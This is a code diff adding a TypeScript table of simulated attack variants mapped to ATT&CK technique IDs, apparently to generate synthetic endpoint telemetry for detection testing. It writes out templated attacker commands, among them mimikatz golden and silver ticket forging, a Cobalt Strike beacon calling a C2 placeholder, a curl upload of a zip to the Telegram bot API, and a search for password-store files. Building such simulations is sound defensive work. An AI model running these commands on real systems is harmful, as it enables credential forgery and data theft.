@@ -1,0 +1,119 @@
+import { v } from "../dsl";
+import type { Variant } from "../types";
+
+/** Cobalt Strike fork&run: the beacon spawns a sacrificial rundll32, injects it, the job talks back over a pipe. */
+const forkRun = v(
+  "cobalt-strike-fork-run",
+  [
+    {
+      cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,StartW",
+      as: "beacon",
+      parent: "@explorer",
+      net: [["{{c2}}", 443]],
+      keep: true,
+    },
+    { cmd: "C:\\Windows\\system32\\rundll32.exe", as: "sac", parent: "beacon", keep: true },
+    { by: "beacon", access: ["sac", "0x1fffff"], thread: "sac" },
+    { by: "sac", pipes: ["\\postex_{{rand}}"] },
+    { by: "beacon", pipeConnects: ["\\postex_{{rand}}"] },
+  ],
+  { shell: "none" },
+);
+
+const OTM = v(
+  "outlook-vbaproject",
+  [
+    {
+      cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ',
+      parent: "@explorer",
+      files: ["{{appdata}}\\Microsoft\\Outlook\\VbaProject.OTM"],
+    },
+  ],
+  { shell: "none" },
+);
+
+/** Extra named-tool variants (see ../extras.ts): injection jobs, ticket files, Outlook macros. */
+export const extrasF: Readonly<Record<string, readonly Variant[]>> = {
+  "T1055.002": [forkRun],
+  "T1055.003": [forkRun],
+  "T1055.004": [forkRun],
+  "T1055.005": [forkRun],
+  "T1055.011": [forkRun],
+  "T1055.015": [forkRun],
+  "T1558.001": [
+    v("mimikatz-golden-kirbi", [
+      {
+        cmd: '{{tools}}\\mimikatz.exe "kerberos::golden /user:{{admin}} /domain:{{dns}} /sid:S-1-5-21-{{n}} /krbtgt:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /ticket:{{tools}}\\golden.kirbi" exit',
+        files: ["{{tools}}\\golden.kirbi"],
+      },
+    ]),
+  ],
+  "T1558.002": [
+    v("mimikatz-silver-kirbi", [
+      {
+        cmd: '{{tools}}\\mimikatz.exe "kerberos::golden /user:{{admin}} /domain:{{dns}} /sid:S-1-5-21-{{n}} /target:{{srvfqdn}} /service:cifs /rc4:{{rand2}}{{rand2}}{{rand2}}{{rand2}} /ticket:{{tools}}\\silver.kirbi" exit',
+        files: ["{{tools}}\\silver.kirbi"],
+      },
+    ]),
+  ],
+  "T1137.001": [OTM],
+  "T1137.005": [OTM],
+  "T1564.010": [
+    v("public-loader-spoof", [
+      { cmd: "C:\\Users\\Public\\{{name}}.exe", as: "l" },
+      { cmd: 'C:\\Windows\\System32\\cmd.exe /c "echo this is fine"', parent: "l" },
+    ]),
+  ],
+  "T1566.002": [
+    v(
+      "link-onenote",
+      [
+        { by: "@msedge", files: ["{{downloads}}\\Scan_{{n}}.one"], net: [["{{c2}}", 443]] },
+        {
+          cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE" /hyperlink "{{downloads}}\\Scan_{{n}}.one"',
+          as: "on",
+          parent: "@explorer",
+        },
+        { cmd: "C:\\Windows\\System32\\cmd.exe /c {{tmp}}\\OneNote\\16.0\\Exported\\open.cmd", parent: "on" },
+      ],
+      { shell: "none" },
+    ),
+  ],
+  "T1567.004": [
+    v("telegram-senddocument", [
+      {
+        cmd: 'curl.exe -F chat_id={{n}} -F document=@"{{tmp}}\\{{rand}}.zip" https://api.telegram.org/bot{{n}}:{{rand2}}/sendDocument',
+        net: [["api.telegram.org", 443]],
+      },
+    ]),
+  ],
+  "T1222.001": [
+    v(
+      "fsutil-symlink-eval",
+      [
+        'cmd.exe /c "fsutil behavior set SymlinkEvaluation R2L:1 R2R:1"',
+        { cmd: "fsutil  behavior set SymlinkEvaluation R2L:1 R2R:1", parent: "prev" },
+      ],
+      { elevated: true },
+    ),
+  ],
+  "T1560.001": [
+    v("tar", [
+      {
+        cmd: "tar.exe -czf C:\\ProgramData\\{{rand}}.tgz -C {{home}}\\Documents .",
+        files: ["C:\\ProgramData\\{{rand}}.tgz"],
+      },
+    ]),
+  ],
+  T1083: [
+    v(
+      "sensitive-file-search",
+      [
+        {
+          ps: "Get-ChildItem -Path C:\\Users -Recurse -Include *.kdbx,*.pass,*.config -ErrorAction SilentlyContinue | Select-Object FullName",
+        },
+      ],
+      { shell: "ps" },
+    ),
+  ],
+};
